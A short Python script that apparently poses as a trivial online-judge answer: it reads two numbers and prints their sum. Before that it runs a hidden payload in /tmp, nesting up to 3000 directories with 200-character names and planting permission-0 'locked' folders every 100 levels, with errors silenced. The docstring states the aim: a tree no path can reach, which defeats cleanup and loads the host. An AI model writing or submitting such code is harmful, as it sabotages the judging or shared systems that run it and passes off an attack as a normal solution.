"""Nests folders so deeply that no path reaches the innermost."""

import os

os.chdir("/tmp")
try:
    for depth in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        if depth % 100 == 99:
            os.mkdir("locked", 0)
except OSError:
    pass
print(sum(map(int, input().split())))
